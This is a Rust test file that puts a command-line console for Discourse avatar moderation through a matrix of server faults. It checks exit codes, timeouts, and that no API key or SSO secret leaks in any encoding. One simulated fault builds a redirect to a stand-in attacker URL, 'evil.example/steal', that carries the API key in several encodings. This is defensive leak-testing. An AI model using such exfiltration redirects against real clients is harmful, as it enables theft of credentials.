//! The fault matrix (issue 10): every endpoint the console calls, behind a small axum fault
//! server on loopback that forwards everything else to a fresh sandbox, against every fault a
//! hostile or broken server can give. Each (endpoint, fault) runs the real binary and asserts:
//! no panic, no hang, the exit code the contract gives (never 2: that is for usage and config),
//! no secret in any encoding in stdout, stderr, audit.jsonl or the app log, and every audited
//! intent paired with an outcome.

use std::sync::Arc;
use std::sync::atomic::{AtomicU32, Ordering};
use std::time::{Duration, Instant};

use axum::Router;
use axum::body::{Body, Bytes};
use axum::extract::{Request, State};
use axum::http::{HeaderMap, HeaderValue, StatusCode};
use axum::response::{IntoResponse, Response};
use base64::Engine;
use discourse_sandbox::{Sandbox, Scenario};

use crate::common::{Run, Scratch};

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Fault {
    S500,
    S502,
    S503,
    /// 429 with `Retry-After: 1`, twice, then the real answer.
    RetryAfter,
    /// 429 with Discourse's `extras.wait_seconds` only, twice.
    WaitSeconds,
    /// 429 as the per-IP limiter's plain text, twice.
    PlainText429,
    /// 429 asking for 999999 s, always.
    Absurd429,
    Html,
    TruncatedJson,
    ResetMidBody,
    SlowDrip,
    Oversized,
    RedirectWithKey,
    EchoSecrets,
}

const FAULTS: &[Fault] = &[
    Fault::S500,
    Fault::S502,
    Fault::S503,
    Fault::RetryAfter,
    Fault::WaitSeconds,
    Fault::PlainText429,
    Fault::Absurd429,
    Fault::Html,
    Fault::TruncatedJson,
    Fault::ResetMidBody,
    Fault::SlowDrip,
    Fault::Oversized,
    Fault::RedirectWithKey,
    Fault::EchoSecrets,
];

impl Fault {
    /// Short 429s are passing: they fire twice, then the server answers.
    fn passes(self) -> bool {
        matches!(
            self,
            Fault::RetryAfter | Fault::WaitSeconds | Fault::PlainText429
        )
    }
}

/// What a run against a faulty endpoint must end with.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Expect {
    /// The command's operation needs this answer: exit 1 (it ran and failed).
    Fails,
    /// An optional read: the command still does its job (exit 0).
    Succeeds,
}

struct Endpoint {
    name: &'static str,
    /// Does a request (method, path and query) hit this endpoint?
    matches: fn(&str, &str) -> bool,
    /// The command that calls it; `{user}`, `{ext}` and `{email}` are filled in.
    args: &'static [&'static str],
    /// The expectation under a lasting fault.
    lasting: Expect,
    /// Under [`Fault::EchoSecrets`], when that differs: the echo is well-typed for this
    /// endpoint (a string where a string is read), so the command goes on with it.
    echo: Option<Expect>,
    /// The site this endpoint is called on (overrides off for pick, say).
    site: fn(&mut Scenario),
    /// Blank `last_payload` in admin records on the way through, so `check` asks the
    /// `sso-payload` route (it only does when the record has none).
    strip_last_payload: bool,
}

fn sso_site(_: &mut Scenario) {}

fn pick_site(s: &mut Scenario) {
    s.overrides_avatar = false;
}

fn hidden_emails_site(s: &mut Scenario) {
    s.hide_admin_emails = true;
}

fn is(path: &str, prefix: &str) -> bool {
    path.starts_with(prefix)
}

const ENDPOINTS: &[Endpoint] = &[
    Endpoint {
        name: "site settings",
        matches: |_, p| is(p, "/admin/config/site_settings") || is(p, "/admin/site_settings"),
        args: &["check", "{user}", "--json"],
        lasting: Expect::Fails,
        echo: None,
        site: sso_site,
        strip_last_payload: false,
    },
    Endpoint {
        name: "user by name",
        matches: |_, p| {
            is(p, "/u/")
                && p.ends_with(".json")
                && !p.contains("/by-external/")
                && !p.contains("/emails")
                && !p.contains("/sso-payload")
        },
        args: &["check", "{user}", "--json"],
        lasting: Expect::Fails,
        echo: None,
        site: sso_site,
        strip_last_payload: false,
    },
    Endpoint {
        name: "admin user",
        matches: |_, p| is(p, "/admin/users/") && p.ends_with(".json") && !p.contains("/list/"),
        args: &["check", "{user}", "--json"],
        lasting: Expect::Fails,
        echo: None,
        site: sso_site,
        strip_last_payload: false,
    },
    Endpoint {
        name: "user by external id",
        matches: |_, p| is(p, "/u/by-external/"),
        args: &["check", "external:{ext}", "--json"],
        lasting: Expect::Fails,
        echo: None,
        site: sso_site,
        strip_last_payload: false,
    },
    Endpoint {
        name: "users by email",
        matches: |_, p| is(p, "/admin/users/list/"),
        args: &["check", "{email}", "--json"],
        lasting: Expect::Fails,
        echo: None,
        site: sso_site,
        strip_last_payload: false,
    },
    Endpoint {
        name: "sso payload",
        matches: |_, p| p.contains("/sso-payload.json"),
        args: &["check", "{user}", "--json"],
        lasting: Expect::Succeeds,
        echo: None,
        site: sso_site,
        strip_last_payload: true,
    },
    Endpoint {
        name: "user emails",
        matches: |_, p| p.contains("/emails.json"),
        args: &["reset", "{user}", "--yes", "--json"],
        lasting: Expect::Fails,
        echo: Some(Expect::Succeeds),
        site: hidden_emails_site,
        strip_last_payload: false,
    },
    Endpoint {
        name: "logs (check)",
        matches: |_, p| is(p, "/logs/messages.json"),
        args: &["check", "{user}", "--json"],
        lasting: Expect::Succeeds,
        echo: None,
        site: sso_site,
        strip_last_payload: false,
    },
    Endpoint {
        name: "logs",
        matches: |_, p| is(p, "/logs/messages.json"),
        args: &["logs", "--json"],
        lasting: Expect::Fails,
        echo: None,
        site: sso_site,
        strip_last_payload: false,
    },
    Endpoint {
        name: "review queue",
        matches: |_, p| is(p, "/review.json"),
        args: &["queue", "--json", "--source", "discourse"],
        lasting: Expect::Fails,
        echo: None,
        site: sso_site,
        strip_last_payload: false,
    },
    Endpoint {
        name: "main app flagged",
        matches: |_, p| is(p, "/app/") && !p.contains("resolved"),
        args: &["queue", "--json", "--source", "app"],
        lasting: Expect::Fails,
        echo: None,
        site: sso_site,
        strip_last_payload: false,
    },
    Endpoint {
        name: "sync_sso",
        matches: |m, p| m == "POST" && is(p, "/admin/users/sync_sso"),
        args: &["reset", "{user}", "--yes", "--json"],
        lasting: Expect::Fails,
        echo: None,
        site: sso_site,
        strip_last_payload: false,
    },
    Endpoint {
        name: "pick",
        matches: |m, p| m == "PUT" && p.contains("/preferences/avatar/pick"),
        args: &["reset", "{user}", "--yes", "--json"],
        lasting: Expect::Fails,
        echo: None,
        site: pick_site,
        strip_last_payload: false,
    },
    Endpoint {
        name: "resolved callback",
        matches: |m, p| m == "POST" && p.contains("resolved"),
        args: &["reset", "{user}", "--yes", "--json"],
        lasting: Expect::Succeeds,
        echo: None,
        site: sso_site,
        strip_last_payload: false,
    },
];

/// The secrets of a run, and every form in which one must never appear.
struct Secrets(Vec<String>);

impl Secrets {
    fn of(sb: &Sandbox) -> Secrets {
        Secrets(vec![sb.api_key(), sb.sso_secret(), sb.main_app_token()])
    }

    /// The forms checked for, computed here (not with the console's own scrubber).
    fn forms(&self) -> Vec<(String, String)> {
        let mut out = Vec::new();
        for s in &self.0 {
            let pct: String = s.bytes().map(|b| format!("%{b:02X}")).collect();
            let hex: String = s.bytes().map(|b| format!("{b:02x}")).collect();
            for (kind, f) in [
                ("raw", s.clone()),
                ("percent", pct.clone()),
                ("percent lower", pct.to_lowercase()),
                (
                    "base64",
                    base64::engine::general_purpose::STANDARD_NO_PAD.encode(s),
                ),
                (
                    "base64url",
                    base64::engine::general_purpose::URL_SAFE_NO_PAD.encode(s),
                ),
                ("hex", hex.clone()),
                ("HEX", hex.to_uppercase()),
            ] {
                out.push((kind.to_string(), f));
            }
        }
        out
    }

    fn leaks(&self, where_: &str, text: &str) -> Vec<String> {
        self.forms()
            .into_iter()
            .filter(|(_, f)| text.contains(f.as_str()))
            .map(|(kind, _)| format!("{kind} secret in {where_}"))
            .collect()
    }
}

struct Proxy {
    upstream: String,
    http: reqwest::Client,
    endpoint: &'static Endpoint,
    /// `None`: a baseline run, everything forwarded.
    fault: Option<Fault>,
    /// How many requests hit the endpoint.
    fired: AtomicU32,
    secrets: Vec<String>,
}

async fn handle(State(p): State<Arc<Proxy>>, req: Request) -> Response {
    let method = req.method().as_str().to_string();
    let pq = req
        .uri()
        .path_and_query()
        .map(|x| x.as_str().to_string())
        .unwrap_or_default();
    let path = pq.split('?').next().unwrap_or("").to_string();
    if (p.endpoint.matches)(&method, &path) {
        let n = p.fired.fetch_add(1, Ordering::SeqCst);
        if let Some(fault) = p.fault
            && (!fault.passes() || n < 2)
        {
            return fault_response(&p, fault).await;
        }
    }
    forward(&p, req, &pq).await
}

async fn forward(p: &Proxy, req: Request, pq: &str) -> Response {
    let method = reqwest::Method::from_bytes(req.method().as_str().as_bytes()).unwrap();
    let mut headers = reqwest::header::HeaderMap::new();
    for (k, v) in req.headers() {
        if !matches!(k.as_str(), "host" | "content-length" | "connection") {
            headers.insert(
                reqwest::header::HeaderName::from_bytes(k.as_str().as_bytes()).unwrap(),
                reqwest::header::HeaderValue::from_bytes(v.as_bytes()).unwrap(),
            );
        }
    }
    let body = axum::body::to_bytes(req.into_body(), 4 << 20)
        .await
        .unwrap_or_default();
    let resp = match p
        .http
        .request(method, format!("{}{pq}", p.upstream))
        .headers(headers)
        .body(body)
        .send()
        .await
    {
        Ok(r) => r,
        Err(_) => return StatusCode::BAD_GATEWAY.into_response(),
    };
    let status = StatusCode::from_u16(resp.status().as_u16()).unwrap();
    let mut out = HeaderMap::new();
    for (k, v) in resp.headers() {
        if !matches!(
            k.as_str(),
            "content-length" | "transfer-encoding" | "connection"
        ) {
            out.insert(
                axum::http::HeaderName::from_bytes(k.as_str().as_bytes()).unwrap(),
                HeaderValue::from_bytes(v.as_bytes()).unwrap(),
            );
        }
    }
    let mut bytes = resp.bytes().await.unwrap_or_default();
    if p.endpoint.strip_last_payload
        && pq.starts_with("/admin/users/")
        && let Ok(mut v) = serde_json::from_slice::<serde_json::Value>(&bytes)
        && let Some(rec) = v
            .get_mut("single_sign_on_record")
            .and_then(|r| r.as_object_mut())
    {
        rec.insert(
            "last_payload".into(),
            serde_json::Value::String(String::new()),
        );
        bytes = Bytes::from(v.to_string());
    }
    (status, out, bytes).into_response()
}

fn json_response(status: u16, body: String) -> Response {
    (
        StatusCode::from_u16(status).unwrap(),
        [("content-type", "application/json; charset=utf-8")],
        body,
    )
        .into_response()
}

async fn fault_response(p: &Proxy, fault: Fault) -> Response {
    let key = &p.secrets[0];
    let b64 = |s: &str| base64::engine::general_purpose::STANDARD.encode(s);
    let pct = |s: &str| -> String { s.bytes().map(|b| format!("%{b:02X}")).collect() };
    let hex = |s: &str| -> String { s.bytes().map(|b| format!("{b:02x}")).collect() };
    match fault {
        Fault::S500 => json_response(500, r#"{"errors":["Internal Server Error"]}"#.into()),
        Fault::S502 => (
            StatusCode::BAD_GATEWAY,
            [("content-type", "text/html")],
            "<html><body><h1>502 Bad Gateway</h1>nginx</body></html>",
        )
            .into_response(),
        Fault::S503 => (
            StatusCode::SERVICE_UNAVAILABLE,
            [("content-type", "text/plain")],
            "Service Unavailable",
        )
            .into_response(),
        Fault::RetryAfter => (
            StatusCode::TOO_MANY_REQUESTS,
            [
                ("content-type", "application/json"),
                ("retry-after", "1"),
            ],
            r#"{"errors":["You've performed this action too many times."],"error_type":"rate_limit"}"#,
        )
            .into_response(),
        Fault::WaitSeconds => json_response(
            429,
            r#"{"errors":["Slow down"],"error_type":"rate_limit","extras":{"wait_seconds":1,"time_left":"1 second"}}"#
                .into(),
        ),
        Fault::PlainText429 => (
            StatusCode::TOO_MANY_REQUESTS,
            [("content-type", "text/plain")],
            "Slow down, too many requests from this IP address. Please retry again in 1 seconds. \
             Error code: ip_10_secs_limit.",
        )
            .into_response(),
        Fault::Absurd429 => (
            StatusCode::TOO_MANY_REQUESTS,
            [
                ("content-type", "application/json"),
                ("retry-after", "999999"),
            ],
            r#"{"errors":["Slow down"],"error_type":"rate_limit","extras":{"wait_seconds":999999}}"#,
        )
            .into_response(),
        Fault::Html => (
            StatusCode::OK,
            [("content-type", "text/html; charset=utf-8")],
            "<!DOCTYPE html><html><head><title>Login</title></head><body>sign in</body></html>",
        )
            .into_response(),
        Fault::TruncatedJson => json_response(200, r#"{"user":{"id":1,"username":"al"#.into()),
        Fault::ResetMidBody => {
            let chunks: Vec<Result<Bytes, std::io::Error>> = vec![
                Ok(Bytes::from_static(b"{\"user\":{\"id\":1,")),
                Err(std::io::Error::other("connection reset")),
            ];
            (
                StatusCode::OK,
                [("content-type", "application/json"), ("content-length", "4000")],
                Body::from_stream(futures::stream::iter(chunks)),
            )
                .into_response()
        }
        Fault::SlowDrip => {
            // One byte every 400 ms: a 2 s client timeout must cut it, not wait 40 s.
            let stream = futures::stream::unfold(0u32, |i| async move {
                if i >= 100 {
                    return None;
                }
                tokio::time::sleep(Duration::from_millis(400)).await;
                Some((Ok::<_, std::io::Error>(Bytes::from_static(b" ")), i + 1))
            });
            (
                StatusCode::OK,
                [("content-type", "application/json")],
                Body::from_stream(stream),
            )
                .into_response()
        }
        Fault::Oversized => {
            // 20 MB, chunked (no Content-Length to refuse it up front): the cap must cut it.
            let chunk = Bytes::from(vec![b' '; 64 * 1024]);
            let stream = futures::stream::iter(
                std::iter::repeat_n(chunk, 320).map(Ok::<_, std::io::Error>),
            );
            (
                StatusCode::OK,
                [("content-type", "application/json")],
                Body::from_stream(stream),
            )
                .into_response()
        }
        Fault::RedirectWithKey => {
            let location = format!(
                "https://evil.example/steal?key={key}&p={}&b={}&h={}",
                pct(key),
                pct(&b64(key)),
                hex(key)
            );
            (
                StatusCode::FOUND,
                [("location", location.as_str())],
                format!("moved to {location}"),
            )
                .into_response()
        }
        Fault::EchoSecrets => {
            // Wrongly typed fields quoting the secrets (serde quotes what it chokes on), and
            // text fields that are shown, in several encodings.
            let mut body = serde_json::Map::new();
            let all = &p.secrets;
            for (i, field) in [
                "user",
                "users",
                "reviewables",
                "site_settings",
                "errors",
                "message",
                "payload",
                "email",
                "messages",
                "id",
                "username",
            ]
            .iter()
            .enumerate()
            {
                let s = &all[i % all.len()];
                let v = match i % 4 {
                    0 => s.clone(),
                    1 => b64(s),
                    2 => pct(s),
                    _ => hex(s),
                };
                body.insert(field.to_string(), serde_json::Value::String(v));
            }
            body.insert(
                "external_id".into(),
                serde_json::json!({ "nested": all[2] }),
            );
            json_response(200, serde_json::Value::Object(body).to_string())
        }
    }
}

async fn start_proxy(
    upstream: String,
    endpoint: &'static Endpoint,
    fault: Option<Fault>,
    secrets: Vec<String>,
) -> (String, Arc<Proxy>) {
    let proxy = Arc::new(Proxy {
        upstream,
        http: reqwest::Client::builder()
            .redirect(reqwest::redirect::Policy::none())
            .build()
            .unwrap(),
        endpoint,
        fault,
        fired: AtomicU32::new(0),
        secrets,
    });
    let app = Router::new().fallback(handle).with_state(proxy.clone());
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = listener.local_addr().unwrap();
    tokio::spawn(async move {
        let _ = axum::serve(listener, app).await;
    });
    (format!("http://{addr}"), proxy)
}

/// The config for a run: the sandbox's secrets, Discourse and the main app behind the proxy.
fn config_for(sb: &Sandbox, proxy: &str) -> String {
    let q = |s: &str| format!("\"{}\"", s.replace('\\', "\\\\").replace('"', "\\\""));
    let path = |u: String| u.trim_start_matches(&sb.url()).to_string();
    format!(
        "[discourse]\nurl = {}\napi_username = {}\napi_key = {}\nsso_secret = {}\n\
         default_avatar_url = {}\ntimeout_secs = 2\n\n[main_app]\nflagged_url = {}\ntoken = {}\n\
         resolved_url = {}\n\n[reset]\nverify_timeout_secs = 10\n",
        q(proxy),
        q(&sb.api_username()),
        q(&sb.api_key()),
        q(&sb.sso_secret()),
        q(&sb.default_avatar_url()),
        q(&format!("{proxy}{}", path(sb.flagged_url()))),
        q(&sb.main_app_token()),
        q(&format!("{proxy}{}", path(sb.resolved_url()))),
    )
}

/// What one cell of the matrix gave.
struct Cell {
    endpoint: &'static str,
    fault: Fault,
    run: Option<Run>,
    failures: Vec<String>,
    leaks: usize,
    panicked: bool,
}

const HANG_LIMIT: Duration = Duration::from_secs(60);

async fn run_cell(endpoint: &'static Endpoint, fault: Option<Fault>) -> Cell {
    let mut scenario = Scenario {
        flagged: 6,
        ..Scenario::default()
    };
    (endpoint.site)(&mut scenario);
    let sb = Sandbox::start(scenario).await.unwrap();
    let secrets = Secrets::of(&sb);
    let (proxy, state) = start_proxy(sb.url(), endpoint, fault, secrets.0.clone()).await;
    let user = sb
        .users()
        .into_iter()
        .find(|u| u.sso.is_some() && u.custom_upload_id.is_some() && u.active && !u.admin)
        .expect("a flagged user with an SSO record");
    let scratch = Scratch::new("faults");
    let config = scratch.write("config.toml", &config_for(&sb, &proxy));
    let ext = user.sso.as_ref().unwrap().external_id.clone();
    let args: Vec<String> = endpoint
        .args
        .iter()
        .map(|a| {
            a.replace("{user}", &user.username)
                .replace("{ext}", &ext)
                .replace("{email}", &user.email)
        })
        .collect();
    let mut cmd = scratch.with_config(&config, &[]);
    cmd.args(&args);
    let started = Instant::now();
    let mut child = cmd
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .expect("spawn the binary");
    // Collect output on threads so a full pipe cannot stall the child.
    let mut so = child.stdout.take().unwrap();
    let mut se = child.stderr.take().unwrap();
    let out_t = std::thread::spawn(move || {
        let mut s = String::new();
        std::io::Read::read_to_string(&mut so, &mut s).ok();
        s
    });
    let err_t = std::thread::spawn(move || {
        let mut s = String::new();
        std::io::Read::read_to_string(&mut se, &mut s).ok();
        s
    });
    let mut hung = false;
    let code = loop {
        if let Some(status) = child.try_wait().unwrap() {
            break status.code().unwrap_or(-1);
        }
        if started.elapsed() > HANG_LIMIT {
            let _ = child.kill();
            let _ = child.wait();
            hung = true;
            break -1;
        }
        tokio::time::sleep(Duration::from_millis(50)).await;
    };
    let run = Run {
        code,
        stdout: tokio::task::spawn_blocking(move || out_t.join().unwrap())
            .await
            .unwrap(),
        stderr: tokio::task::spawn_blocking(move || err_t.join().unwrap())
            .await
            .unwrap(),
        elapsed: started.elapsed(),
    };
    let mut failures = Vec::new();
    // A cell whose endpoint was never called would prove nothing.
    if state.fired.load(Ordering::SeqCst) == 0 {
        failures.push("the command never called this endpoint".into());
    }
    if hung {
        failures.push(format!("hung: killed after {HANG_LIMIT:?}"));
    }
    let panicked = run.code == 101 || run.stderr.contains("panicked");
    if panicked {
        failures.push("panicked".into());
    }
    // The contract's exit code.
    let expected = match fault {
        None => Expect::Succeeds,
        Some(f) if f.passes() => Expect::Succeeds,
        Some(Fault::EchoSecrets) => endpoint.echo.unwrap_or(endpoint.lasting),
        Some(_) => endpoint.lasting,
    };
    let want = match expected {
        Expect::Succeeds => 0,
        Expect::Fails => 1,
    };
    if !hung && run.code != want {
        failures.push(format!("exit {} where the contract gives {want}", run.code));
    }
    // --json: one JSON document on stdout whenever there is output at all.
    if args.iter().any(|a| a == "--json")
        && !run.stdout.trim().is_empty()
        && serde_json::from_str::<serde_json::Value>(&run.stdout).is_err()
    {
        failures.push("stdout is not one JSON document".into());
    }
    // A wait that is endured is said as it starts.
    if fault.is_some_and(Fault::passes) && !run.stderr.contains("is rate limiting") {
        failures.push("a rate-limit wait was not said on stderr".into());
    }
    if fault == Some(Fault::Absurd429) {
        if run.elapsed > Duration::from_secs(20) {
            failures.push(format!(
                "an absurd Retry-After was endured ({:?})",
                run.elapsed
            ));
        }
        if !run.stderr.contains("999999") && !run.stdout.contains("999999") {
            failures.push("the asked wait is not said".into());
        }
    }
    // Secrets, in any encoding, anywhere.
    let audit = std::fs::read_to_string(scratch.path("data/audit.jsonl")).unwrap_or_default();
    let log = std::fs::read_to_string(scratch.path("data/avatar-console.log")).unwrap_or_default();
    let mut leaks = secrets.leaks("stdout", &run.stdout);
    leaks.extend(secrets.leaks("stderr", &run.stderr));
    leaks.extend(secrets.leaks("audit.jsonl", &audit));
    leaks.extend(secrets.leaks("the app log", &log));
    let leak_count = leaks.len();
    failures.extend(leaks);
    // Every intent has its outcome.
    let mut open = 0i64;
    for line in audit.lines() {
        let v: serde_json::Value = match serde_json::from_str(line) {
            Ok(v) => v,
            Err(e) => {
                failures.push(format!("audit line is not JSON ({e}): {line}"));
                continue;
            }
        };
        match v["phase"].as_str() {
            Some("intent") => open += 1,
            Some("outcome") => open -= 1,
            _ => failures.push(format!("audit line without a phase: {line}")),
        }
    }
    if open != 0 {
        failures.push(format!("{open} intent(s) without an outcome"));
    }
    drop(sb);
    Cell {
        endpoint: endpoint.name,
        fault: fault.unwrap_or(Fault::RetryAfter),
        run: Some(run),
        failures,
        leaks: leak_count,
        panicked,
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn every_endpoint_survives_every_fault() {
    // Baselines first: without a fault every command succeeds, so a failure below is the
    // fault's doing.
    let mut cells = Vec::new();
    let mut jobs = Vec::new();
    for e in ENDPOINTS {
        jobs.push((e, None));
        for f in FAULTS {
            jobs.push((e, Some(*f)));
        }
    }
    let total = jobs.len();
    // A few at a time: each cell is mostly waiting (timeouts, 1 s Retry-Afters).
    let sem = Arc::new(tokio::sync::Semaphore::new(6));
    let mut handles = Vec::new();
    for (e, f) in jobs {
        let permit = sem.clone().acquire_owned().await.unwrap();
        handles.push(tokio::spawn(async move {
            let cell = run_cell(e, f).await;
            drop(permit);
            (f.is_none(), cell)
        }));
    }
    for h in handles {
        cells.push(h.await.unwrap());
    }
    let (mut failed, mut leaks, mut panics, mut hangs) = (Vec::new(), 0, 0, 0);
    for (baseline, c) in &cells {
        leaks += c.leaks;
        panics += usize::from(c.panicked);
        hangs += usize::from(c.failures.iter().any(|f| f.starts_with("hung")));
        if !c.failures.is_empty() {
            let run = c.run.as_ref().map(|r| r.all()).unwrap_or_default();
            let tail: String = run.chars().take(1500).collect();
            failed.push(format!(
                "{} / {}: {}\n{tail}",
                c.endpoint,
                if *baseline {
                    "baseline".to_string()
                } else {
                    format!("{:?}", c.fault)
                },
                c.failures.join("; ")
            ));
        }
    }
    let faults_tried = total - ENDPOINTS.len();
    eprintln!(
        "fault matrix: {} endpoints x {} faults = {faults_tried} faulty runs (+{} baselines); \
         survived {}, leaks {leaks}, panics {panics}, hangs {hangs}",
        ENDPOINTS.len(),
        FAULTS.len(),
        ENDPOINTS.len(),
        total - failed.len(),
    );
    assert!(
        failed.is_empty(),
        "{} of {total} runs failed:\n\n{}",
        failed.len(),
        failed.join("\n\n")
    );
}
